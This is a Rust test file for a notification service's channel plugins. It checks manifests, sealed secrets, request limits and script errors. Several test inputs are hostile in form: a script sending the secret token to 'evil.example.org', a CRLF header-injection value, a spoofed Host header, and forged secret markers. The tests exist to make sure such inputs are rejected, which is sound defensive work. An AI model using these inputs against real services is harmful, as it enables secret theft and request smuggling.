//! Channel plugins: what a manifest may ask for, and what a script gives.

use std::collections::BTreeMap;

use proptest::prelude::*;
use simbell_core::reminder::{Message, Urgency};
use simbell_core::request::{BodyKind, HttpAnswer, HttpMethod, HttpRequest, Piece, Sealed, Verdict};
use simbell_core::time::{Span, Timestamp};
use simbell_rules::{
    ChannelEngine, ChannelPlugin, ChannelScript, Given, Limits, LoadOptions, RuleSet, check_plugin,
    plugin_permissions,
};

use crate::inputs::{Folder, NOW};

const MANIFEST: &str = r#"
api = 1
name = "bell"
kind = "channel"
description = "Rings."
hosts = ["api.example.org", "localhost:8443", "{url}"]

[settings.url]
type = "url"
default = "https://bell.example.org"

[settings.token]
type = "secret"

[settings.room]
type = "text"
optional = true
"#;

#[test]
fn hosts_are_the_permissions_of_a_channel_which_is_no_rule() {
    let folder = Folder::new();
    folder.write("bell/plugin.toml", MANIFEST);
    let dir = folder.path().join("bell");
    let hosts = ["host:api.example.org", "host:localhost:8443", "host:{url}"];
    assert_eq!(plugin_permissions(&dir).unwrap(), hosts);

    folder.write(
        "rule/plugin.toml",
        "api = 1\nname = \"rule\"\nkind = \"rule\"\ndescription = \"d\"\npermissions = [\"send-sms\"]\n",
    );
    assert_eq!(plugin_permissions(&folder.path().join("rule")).unwrap(), ["send-sms"]);

    let options = LoadOptions { plugin_dirs: vec![folder.path().to_owned()], ..LoadOptions::default() };
    let rules = RuleSet::load(&options);
    let names: Vec<String> = rules.descriptions().iter().map(|rule| rule.name.to_string()).collect();
    assert_eq!(names, ["rule"]);
    assert_eq!(rules.idle(), []);
}

#[test]
fn a_wrong_manifest_of_a_channel_says_what_is_wrong() {
    let folder = Folder::new();
    let wrong = MANIFEST
        .replace("api.example.org", "https://api.example.org/x")
        .replace("{url}", "{token}")
        .replace("type = \"secret\"", "type = \"secret\"\ndefault = \"x\"")
        .replace("[settings.room]", "[settings.timeout]")
        .replace("kind = \"channel\"", "kind = \"channel\"\npermissions = [\"send-sms\"]");
    folder.write("bell/plugin.toml", &wrong);
    let dir = folder.path().join("bell");
    let problems: Vec<(usize, String)> = check_plugin(&dir)
        .into_iter()
        .map(|problem| (problem.at.map_or(0, |(line, _)| line), problem.message))
        .collect();
    let expected = [
        (5, "a channel has no `permissions`: it sends to its `hosts`, and does nothing else"),
        (17, "`timeout` is a key that every channel has; name the setting otherwise"),
        (15, "`settings.token` is a secret, which has no default"),
        (
            7,
            "in `hosts`: `https://api.example.org/x` is no host: write a name such as \"api.example.org\" without \
             scheme and path, or \"{NAME}\" for the host of the setting NAME",
        ),
        (7, "in `hosts`: `token` is no setting of type \"url\""),
    ];
    assert_eq!(problems, expected.map(|(line, message)| (line, message.to_owned())));

    folder.write("bell/plugin.toml", &MANIFEST.replace("channel", "rule"));
    let problems: Vec<String> =
        check_plugin(&folder.path().join("bell")).iter().map(|problem| problem.message.clone()).collect();
    let expected = [
        "`settings.room` has no key `optional`",
        "`settings.room` needs a `default`",
        "`settings.token.type` is one of: bool, int, decimal, text, size, span, percent, money",
        "`settings.url.type` is one of: bool, int, decimal, text, size, span, percent, money",
        "a rule reaches no host: `hosts` are of kind = \"channel\"",
    ];
    assert_eq!(problems, expected);
}

/// A channel that goes by this script.
fn script(folder: &Folder, main: &str) -> ChannelScript {
    folder.write("bell/plugin.toml", MANIFEST);
    folder.write("bell/main.rhai", main);
    let plugin = ChannelPlugin::load(&folder.path().join("bell")).unwrap().unwrap();
    let given = BTreeMap::from([("url".to_owned(), Given::Sealed), ("token".to_owned(), Given::Sealed)]);
    plugin.script(&ChannelEngine::new(&Limits::default()), &given)
}

fn message(text: &str) -> Message {
    Message {
        title: "home: 80%".to_owned(),
        text: text.to_owned(),
        urgency: Urgency::Warning,
        key: "data/80".to_owned(),
        sim_name: None,
        raised_at: NOW,
        id: "data/80#1/bell".to_owned(),
        language: "en".to_owned(),
    }
}

fn sent(main: &str) -> Result<HttpRequest, String> {
    asked(main, "8 GB\nused")
}

fn asked(main: &str, text: &str) -> Result<HttpRequest, String> {
    let folder = Folder::new();
    let now = Timestamp::from_millis(NOW.as_millis() + 1_234);
    let request = script(&folder, main).request(&message(text), now);
    request.map_err(|problem| problem.to_string().replace(&format!("{}/", folder.path().display()), ""))
}

/// A request whose body is made by an expression.
fn body(expression: &str) -> Result<(BodyKind, Vec<Piece>), String> {
    let main = format!("fn send(message) {{ http_post(\"https://api.example.org/x\", {expression}) }}");
    sent(&main).map(|request| request.body.map(|body| (body.kind, body.pieces)).unwrap())
}

fn text(text: &str) -> Piece {
    Piece::Text(text.to_owned())
}

fn token() -> Piece {
    Piece::Sealed(Sealed::Setting("token".to_owned()))
}

#[test]
fn a_request_is_a_value_whose_secrets_are_sealed() {
    let request = sent(
        "fn send(message) { http_put(`${settings.url}/a/${settings.token}`, #{ \"X-Key\": settings.token, Age: 7, \
         None: () }, #{ text: message.text, urgency: message.urgency, room: settings.room, at: message.raised_at.seconds, \
         now: message.sent_at.millis, said: `${message.raised_at}`, sim: message.sim, id: message.id, n: 0.10 * 3, \
         list: [1, true, [\"\\\"\"]], secret: `a ${settings.token}` }) }",
    );
    let request = request.unwrap();
    assert_eq!(request.method, HttpMethod::Put);
    let url = Piece::Sealed(Sealed::Setting("url".to_owned()));
    assert_eq!(request.url, [url, text("/a/"), token()]);
    assert_eq!(request.headers, [("Age".to_owned(), vec![text("7")]), ("X-Key".to_owned(), vec![token()])]);
    let body = request.body.unwrap();
    let before = "{\"at\":1795327500,\"id\":\"data/80#1/bell\",\"list\":[1,true,[\"\\\"\"]],\"n\":0.3,\"now\":1795327501234,\
                  \"room\":null,\"said\":\"2026-11-22T06:05:00Z\",\"secret\":\"a ";
    let after = "\",\"sim\":null,\"text\":\"8 GB\\nused\",\"urgency\":\"warning\"}";
    assert_eq!((body.kind, body.pieces), (BodyKind::Json, vec![text(before), token(), text(after)]));
}

#[test]
fn bodies_are_json_forms_and_texts() {
    assert_eq!(body("\"a b\""), Ok((BodyKind::Text, vec![text("a b")])));
    assert_eq!(body("[]"), Ok((BodyKind::Json, vec![text("[]")])));
    let form = "form(#{ b: message.text, a: settings.token, c: 1.5, d: (), \"&\": true })";
    let pieces = vec![text("%26=true&a="), token(), text("&b=8%20GB%0Aused&c=1.5")];
    assert_eq!(body(form), Ok((BodyKind::Form, pieces)));
    let typed = sent(
        "fn send(message) { http_post(\"https://api.example.org/x\", #{ \"Content-Type\": \"application/json\" }, \
         `{\"t\":\"${settings.token}\"}`) }",
    );
    assert_eq!(typed.unwrap().body.map(|body| body.kind), Some(BodyKind::Json));
    let signed = "base64(hmac_sha256(settings.token, \"x\" + settings.token))";
    let hmac = Sealed::HmacSha256 { key: vec![token()], text: vec![text("x"), token()] };
    let sealed = Piece::Sealed(Sealed::Base64(vec![Piece::Sealed(hmac)]));
    assert_eq!(body(signed), Ok((BodyKind::Text, vec![sealed])));
    assert_eq!(body("hex(\"a\")"), Ok((BodyKind::Text, vec![Piece::Sealed(Sealed::Hex(vec![text("a")]))])));
    assert_eq!(body("shorten(\"流量用完了\", 3)"), Ok((BodyKind::Text, vec![text("流量…")])));
    assert_eq!(body("shorten_bytes(\"流量用完了\", 10)"), Ok((BodyKind::Text, vec![text("流量…")])));
    assert_eq!(body("url_encode(\"a/ü b\")"), Ok((BodyKind::Text, vec![text("a%2F%C3%BC%20b")])));
}

#[test]
fn what_makes_no_request_is_said_with_its_place() {
    let send = |expression: &str| format!("fn send(message) {{\n    {expression}\n}}");
    let post = |headers: &str, body: &str| {
        send(&format!("http_post(\"https://api.example.org/x\", {headers}, {body})"))
    };
    for (main, expected) in [
        (send("5"), "bell/main.rhai: `send` gives a plain number, not a request"),
        (
            send("message.txet"),
            "bell/main.rhai:2:13: Message has no property `txet`\n  hint: did you mean `text`?",
        ),
        (
            send("http_pots(\"\", \"\")"),
            "bell/main.rhai:2:5: unknown function `http_pots`\n  hint: did you mean `http_post`?",
        ),
        (
            send("http_post(1)"),
            "`http_post` does not take number\n  hint: write it as `http_post(settings.webhook",
        ),
        (send("remind(\"k\", \"t\")"), "unknown function `remind`"),
        (send("now()"), "unknown function `now`"),
        (send("settings.tokn"), "there is no setting `tokn`\n  hint: did you mean `token`?"),
        (post("#{ \"a b\": 1 }", "\"\""), "2:5: `a b` is not the name of a header"),
        (post("#{ Host: \"evil.org\" }", "\"\""), "the header `Host` is the service's own: leave it out"),
        (post("#{ \"content-LENGTH\": 1 }", "\"\""), "the header `content-LENGTH` is the service's own"),
        (
            post("#{ A: \"x\\r\\nHost: y\" }", "\"\""),
            "the header `A` has a line break or a control character",
        ),
        (post("#{ A: [] }", "\"\""), "`A` is array, not a text"),
        (post("#{}", "5"), "the body is a plain number: give a text, a map for JSON, or form(#{ … })"),
        (post("#{}", "#{ a: 5.GB }"), "the body has DataSize, which JSON does not know: make a text of it"),
        (post("#{}", "settings.token.sub_string(1, 4)"), "a secret can only be used whole"),
        (post("#{}", "settings.token[2] + \"x\""), "a secret can only be used whole"),
        (post("#{}", "url_encode(settings.token)"), "`url_encode` cannot encode a secret"),
        (send("loop { }"), "bell/main.rhai:1:1: the script was ended: too many operations"),
        (send("let a = []; loop { a.push(a); }"), "too large: size of array"),
        (send("let s = \"xxxxxxxx\"; loop { s += s; }"), "too large: "),
        (
            send("let s = \"\\\"\"; for i in 0..15 { s += s; } http_post(\"https://a.org\", [s])"),
            "this is longer than 65536 bytes",
        ),
        (
            send("let s = \"x\"; for i in 0..14 { s += s; } http_post(\"https://a.org/\" + s, \"\")"),
            "the address: this is longer than 8192 bytes",
        ),
        (
            send("let v = 1; for i in 0..20 { v = [v]; } http_post(\"https://a.org/\", v)"),
            "the body has values nested deeper than 16",
        ),
        (
            "fn sent(message) { }".to_owned(),
            "the script has no `send(message)`, so nothing would ever be sent\n  hint: is `sent` meant to be `send`?",
        ),
        ("fn send() { }".to_owned(), "bell/main.rhai:1:1: `send` takes one value, the message, not 0"),
        ("fn send(m) { } fn accepted() { }".to_owned(), "`accepted` takes one value, the answer, not 0"),
        ("fn send(m) { m.text".to_owned(), "bell/main.rhai:1:"),
        ("let x = 1; fn send(m) { }".to_owned(), "not `let x`"),
    ] {
        let said = sent(&main).unwrap_err();
        assert!(said.contains(expected), "{main}\n{said}");
        assert!(!said.contains(char::is_control) || said.contains('\n'), "{said:?}");
        assert!(said.chars().all(|c| c < '\u{100000}'), "{said:?}");
    }
}

#[test]
fn a_message_cannot_name_a_secret() {
    let forged = "pay \u{10fff0}stoken\u{10fff2} now\u{202e}";
    let request =
        asked("fn send(m) { http_post(`https://a.org/${url_encode(m.text)}`, m.text) }", forged).unwrap();
    assert_eq!(request.url, [text("https://a.org/pay%20stoken%20now")]);
    assert_eq!(request.body.unwrap().pieces, [text("pay stoken now")]);
}

fn judged(accepted: &str, status: u16, body: &str) -> Result<Verdict, String> {
    let folder = Folder::new();
    let main = format!("fn send(m) {{ http_get(settings.url) }}\nfn accepted(answer) {{ {accepted} }}");
    let script = script(&folder, &main);
    let answer = HttpAnswer { status, body: body.to_owned() };
    script
        .judge(&answer)
        .map_err(|problem| problem.to_string().replace(&format!("{}/", folder.path().display()), ""))
}

#[test]
fn an_answer_is_judged_by_the_script() {
    let later = |why: &str, after| Ok(Verdict::Later { why: why.to_owned(), after });
    assert_eq!(judged("answer.ok", 204, ""), Ok(Verdict::Accepted));
    assert_eq!(judged("answer.ok", 500, ""), Ok(Verdict::Refused(None)));
    assert_eq!(judged("", 200, ""), Ok(Verdict::ByStatus));
    let why = "refused(`${answer.json.errcode}: ${answer.json.errmsg}`)";
    let refused = Verdict::Refused(Some("310000: sign\u{fffd}[2J not match".to_owned()));
    assert_eq!(judged(why, 200, "{\"errcode\":310000,\"errmsg\":\"sign\\u001b[2J not match\"}"), Ok(refused));
    assert_eq!(
        judged("retry(answer.json.n, 90.seconds)", 200, "{\"n\":0.5}"),
        later("0.5", Some(Span::secs(90)))
    );
    assert_eq!(judged("retry(answer.body)", 200, "[1]"), later("[1]", None));
    assert_eq!(judged("answer.json.a.b[1]", 200, "{\"a\":{\"b\":[1,true]}}"), Ok(Verdict::Accepted));
    assert_eq!(judged("answer.json.len() == 0", 200, "[1,2]"), Ok(Verdict::Accepted));
    // Whatever comes, the script sees a bounded piece of it.
    let deep = format!("{{\"a\":{}1{}}}", "[".repeat(100), "]".repeat(100));
    assert_eq!(judged("answer.json.a != ()", 200, &deep), Ok(Verdict::Accepted));
    let many = format!("{{\"a\":[{}1]}}", "1,".repeat(7_000));
    assert_eq!(judged("answer.json.a.len() <= 200", 200, &many), Ok(Verdict::Accepted));

    // Marks of secrets, written as escapes: nothing of them is left.
    let marked = r#"{"a\udbff\udff0":"x\udbff\udff0\udbff\ude73\udbff\udff2"}"#;
    assert_eq!(judged("answer.json.a == \"x\"", 200, marked), Ok(Verdict::Accepted));
    let failed = judged("answer.json.a.b", 200, "<html>").unwrap_err();
    assert_eq!(
        failed,
        "bell/main.rhai:2:37: `.b` of an absent value, `()`\n  hint: test the value first, as in `if sim.cycle != () { … }`"
    );
    assert!(
        judged("\"yes\"", 200, "")
            .unwrap_err()
            .contains("it gives true, false, refused(\"why\") or retry(\"why\")")
    );
}

#[test]
fn a_check_tries_a_channel_and_tells_where_it_would_send() {
    let folder = Folder::new();
    let checked = |main: &str| {
        let _script = script(&folder, main);
        let problems = check_plugin(&folder.path().join("bell"));
        let said: Vec<String> = problems.iter().map(ToString::to_string).collect();
        said.join("\n").replace(&format!("{}/", folder.path().display()), "")
    };
    assert_eq!(checked("fn send(m) { http_post(`https://api.example.org/${settings.token}`, m.text) }"), "");
    assert_eq!(checked("fn send(m) { http_post(settings.url, m.text) }"), "");
    assert_eq!(
        checked("fn send(m) { http_post(\"https://evil.example.org/\", settings.token) }"),
        "bell/main.rhai:1:33: the request goes to `evil.example.org`, which is not in `hosts` of plugin.toml\n  1 | fn \
         send(m) { http_post(\"https://evil.example.org/\", settings.token) }\n    |                                 ^\n  hint: add it \
         there: hosts = [\"evil.example.org\"]"
    );
    assert!(
        checked("fn send(m) { http_post(`https://${settings.token}.org/`, \"\") }")
            .contains("no secret stands in it")
    );
    assert!(checked("fn send(m) { http_post(settings.token, \"\") }").contains("no setting of type \"url\""));
    assert!(
        checked("fn send(m) { http_post(\"http://api.example.org/\", \"\") }")
            .contains("does not begin with https://")
    );
    let said = checked("fn send(m) {\n    http_post(settings.url, m.sim + 5.GB)\n}");
    assert!(
        said.starts_with(
            "bell/main.rhai:2:35: warning: `+` does not work on (), DataSize\n  2 |     http_post("
        ),
        "{said}"
    );
}

/// Expressions that a script could be made of, sensible or not.
fn expression() -> impl Strategy<Value = String> {
    let leaf = prop_oneof![
        any::<i64>().prop_map(|number| number.to_string()),
        any::<String>().prop_map(|text| format!("{text:?}")),
        "[ -~]{0,40}".prop_map(|text| format!("{text:?}")),
        Just("message.text".to_owned()),
        Just("message.sim".to_owned()),
        Just("settings.token".to_owned()),
        Just("settings.url".to_owned()),
        Just("()".to_owned()),
        Just("5.GB".to_owned()),
    ];
    leaf.prop_recursive(5, 40, 4, |inner| {
        let name = prop_oneof![Just("a"), Just("Host"), Just("X-A"), Just("content-type"), Just("b c")];
        prop_oneof![
            (inner.clone(), inner.clone()).prop_map(|(a, b)| format!("({a} + {b})")),
            (inner.clone(), inner.clone()).prop_map(|(a, b)| format!("hmac_sha256({a}, {b})")),
            inner.clone().prop_map(|a| format!("base64({a})")),
            inner.clone().prop_map(|a| format!("hex({a})")),
            (inner.clone(), -2_i64..9).prop_map(|(a, n)| format!("({a}).sub_string({n}, {n})")),
            inner.clone().prop_map(|a| format!("`x${{{a}}}y`")),
            inner.clone().prop_map(|a| format!("shorten_bytes({a}, 7)")),
            prop::collection::vec(inner.clone(), 0..4).prop_map(|list| format!("[{}]", list.join(", "))),
            prop::collection::btree_map(name, inner, 0..4).prop_map(|map| {
                let fields: Vec<String> =
                    map.iter().map(|(name, value)| format!("{name:?}: {value}")).collect();
                format!("#{{ {} }}", fields.join(", "))
            }),
        ]
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 128, ..ProptestConfig::default() })]

    #[test]
    fn whatever_a_script_gives_is_a_request_within_its_limits_or_a_problem(
        url in expression(),
        headers in expression(),
        body in expression(),
        form in any::<bool>(),
        said in any::<String>(),
    ) {
        let body = if form { format!("form({body})") } else { body };
        let main = format!("fn send(message) {{ http_post({url}, {headers}, {body}) }}");
        match asked(&main, &said) {
            Ok(request) => {
                let known = |pieces: &[Piece]| pieces.iter().map(settled).sum::<usize>();
                prop_assert!(known(&request.url) <= 8 << 10);
                prop_assert!(request.headers.len() <= 32);
                prop_assert!(request.body.is_none_or(|body| known(&body.pieces) <= 64 << 10));
            }
            Err(problem) => prop_assert!(!problem.contains("panicked"), "{problem}"),
        }
    }
}

/// Bytes of text; every sealed setting is one of the two that there are.
fn settled(piece: &Piece) -> usize {
    let all = |pieces: &[Piece]| pieces.iter().map(settled).sum();
    match piece {
        Piece::Text(text) => text.len(),
        Piece::Sealed(Sealed::Setting(name)) => {
            assert!(["token", "url"].contains(&name.as_str()), "{name:?}");
            0
        }
        Piece::Sealed(Sealed::HmacSha256 { key, text }) => all(&[key.as_slice(), text.as_slice()].concat()),
        Piece::Sealed(Sealed::Base64(pieces) | Sealed::Hex(pieces)) => all(pieces),
    }
}
